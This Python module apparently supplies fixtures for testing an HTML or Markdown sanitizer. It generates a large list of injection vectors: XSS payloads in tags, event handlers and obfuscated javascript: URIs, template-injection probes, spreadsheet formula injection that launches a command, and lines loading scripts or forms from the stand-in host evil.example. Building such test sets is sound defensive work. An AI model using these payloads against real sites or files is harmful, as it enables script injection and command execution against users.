# ruff: noqa: E501  a vector is easier to read in one piece
"""Attempts to become mark-up, a script, an address or another field; our own, by what they try."""

from itertools import product

HARM = "alert(1)"

_TAGS = ("script", "ScRiPt", "svg", "math", "style", "iframe", "object", "template", "noscript")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin")
_ENDS = ("</title>", "</textarea>", "</style>", "</script>", "</noscript>", "--></x>", "]]>", '">')
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u2060javascript:",
    " javascript:", "javascript&colon;", "javascript&#58;", "jav&#x09;ascript:",
    "&#106;avascript:", "vbscript:", "data:text/html,", "data:text/html;base64,PHN2Zz4=",
    "data:image/svg+xml,", "blob:", "file:///", "//evil.example/", "\\\\evil.example\\",
    "https:javascript:", "javascript://%0a",
)  # fmt: skip
_LINKS = ("[x]({0})", "[x](<{0}>)", "![x]({0})", "<{0}>", "[x]: {0}\n\n[x]", "[{0}]({0} '{0}')")
_PLACES = ("{0}", "- {0}", "1. {0}", "> {0}", "# {0}", "**{0}**", "`{0}`", "| {0} |", "    {0}")

_ELEMENTS = [f"<{tag}>{HARM}</{tag}>" for tag in _TAGS]
_HANDLERS = [f"<img src=x {event}={HARM}>" for event in _EVENTS] + [
    f"{quote} {event}={quote}{HARM}" for quote, event in product("\"'`", _EVENTS)
]
_ENDINGS = [f"{end}<svg onload={HARM}>" for end in _ENDS]
_ADDRESSES = [form.format(f"{scheme}{HARM}") for form, scheme in product(_LINKS, _SCHEMES)]
_IN_MARKDOWN = [form.format(f"<img src=x onerror={HARM}>") for form in _PLACES] + [
    form.format(f"[x](javascript:{HARM})") for form in _PLACES
]
_OTHERS = [
    "{{ 7 * 7 }}{% raw %}{# #}", "${7*7}#{7*7}<%= 7*7 %>", "%(n)s %s {0} {n!r}", "<!-- --!>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>", "<!doctype html><html>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<script/src=//evil.example>", "<svg/onload=alert(1)//", "<<script>alert(1)//<</script>",
    "<a href=javascript:alert(1)>x</a>", "<base href=//evil.example/>", "<link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "</p></main></body><script>",
    "\u202e<tpircs>)1(trela</tpircs>", "＜script＞alert(1)＜/script＞", "\\u003cscript\\u003ealert(1)",
    '{"@type":"Person"}', '"},{"@id":"x', "\u2028alert(1)\u2029", "</script><script>alert(1)//",
    'x" style="background:url(javascript:alert(1))', "expression(alert(1))", "@import '//evil.example'",
    '=HYPERLINK("//evil.example")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1",
    "*[x](javascript:alert(1))*", "[a](javascript:alert(1)", "[a]()<b>", "[![x](y)](javascript:alert(1))",
    '[x](https://ok.example/"onmouseover=alert(1))', '[x](mailto:a@b.example"onclick=alert(1))',
    '[x](https://ok.example/ ""><script>")', "\\[x](javascript:alert(1))", '<https://ok.example/"onclick=1>',
]  # fmt: skip

VECTORS = tuple(
    dict.fromkeys([*_ELEMENTS, *_HANDLERS, *_ENDINGS, *_ADDRESSES, *_IN_MARKDOWN, *_OTHERS])
)
